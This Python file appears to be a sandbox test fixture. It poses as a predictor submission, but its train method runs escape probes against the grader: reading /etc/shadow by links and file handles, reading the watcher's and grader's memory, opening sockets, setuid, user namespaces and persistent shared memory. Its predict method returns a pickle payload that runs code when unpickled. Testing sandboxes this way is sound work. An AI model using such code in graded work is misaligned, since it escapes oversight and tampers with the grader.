"""Tries every way out of its processes that it knows, prints how each went, and predicts nothing.

The answers end up in the report; a way that leads somewhere says FOUND.
"""

import ctypes
import mmap
import os
import pathlib
import pickle
import socket
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
OWN_USERS = 0x10000000  # of unshare(2)
SECRET, PORTS = "/etc/shadow", {}  # the test adds a file of the grader's, and where it listens


def tries(what, act):
    try:
        found = act()
        print(f"{what}: FOUND {found!r:.60}", flush=True)
    except (OSError, ValueError) as error:
        print(f"{what}: denied ({type(error).__name__})", flush=True)


def call(name, *arguments):
    done = getattr(LIBC, name)(*arguments)
    if done < 0:
        raise OSError(ctypes.get_errno(), name)
    return done


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def memory_by_call(pid):
    """Another's memory without opening a file."""
    here = ctypes.create_string_buffer(8)
    local = struct.pack("QQ", ctypes.addressof(here), 8)
    remote = struct.pack("QQ", 0x400000, 8)
    return call("process_vm_readv", pid, local, 1, remote, 1, 0)


def by_handle():
    """A file by its number instead of its path, which the right to read anything allows."""
    handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
    struct.pack_into("I", handle, 0, 128)
    call("name_to_handle_at", -100, SECRET.encode(), handle, ctypes.byref(mount), 0)
    near = os.open(".", os.O_RDONLY)
    return os.read(call("open_by_handle_at", near, handle, os.O_RDONLY), 20)


def send(kind):
    with socket.socket(socket.AF_INET, kind) as caller:
        caller.settimeout(2)
        caller.connect(("127.0.0.1", PORTS[kind.name]))
        return caller.send(b"truth?")


def listen():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        return server.getsockname()


def shared_memory():
    """A segment that would outlive every process of this submission."""
    return call("shmget", 0x7E57, mmap.PAGESIZE, 0o1600)


def become_root():
    os.setuid(0)
    return os.getuid()


def own_world():
    """A user namespace, in which it would be root."""
    call("unshare", OWN_USERS)
    return pathlib.Path(SECRET).read_text()


def look_for_a_way_out():
    watcher = os.getppid()
    grader = parent_of(watcher)
    for who, pid in (("watcher", watcher), ("grader", grader)):
        tries(f"memory of {who} by a call", lambda pid=pid: memory_by_call(pid))
        tries(f"memory map of {who}", pathlib.Path(f"/proc/{pid}/maps").read_bytes)
        tries(f"folder of {who}", lambda pid=pid: os.readlink(f"/proc/{pid}/cwd"))
        tries(f"root of {who}", lambda pid=pid: os.listdir(f"/proc/{pid}/root"))
        tries(f"thread of {who}", lambda pid=pid: os.readlink(f"/proc/{pid}/task/{pid}/fd/1"))
    tries("secret", pathlib.Path(SECRET).read_text)
    os.symlink(SECRET, "link")
    tries("secret by a link", pathlib.Path("link").read_text)
    tries("secret by a hard link", lambda: os.link(SECRET, "hard"))
    tries("secret by its number", by_handle)
    tries("stream", lambda: send(socket.SOCK_STREAM))
    tries("datagram", lambda: send(socket.SOCK_DGRAM))
    tries("listen", listen)
    tries("physical memory", pathlib.Path("/dev/mem").read_bytes)
    tries("file beside the folder", pathlib.Path("../left").touch)
    tries("folder moved", lambda: os.rename(os.getcwd(), os.getcwd() + "-moved"))
    tries("shared memory", shared_memory)
    os.symlink(os.path.dirname(SECRET), "folder")
    tries("root", become_root)
    tries("secret as root of another world", own_world)


class Answer:
    """What an unpickling grader would run."""

    def __reduce__(self):
        return os.mkdir, (SECRET + ".opened",)


class make_predictor:
    def train(self, ctrl_emb, pert_emb, pert_cov):
        if not os.path.lexists("link"):  # the first time
            look_for_a_way_out()

    def predict(self, ctrl_emb, pert_cov):
        return pickle.dumps(Answer())
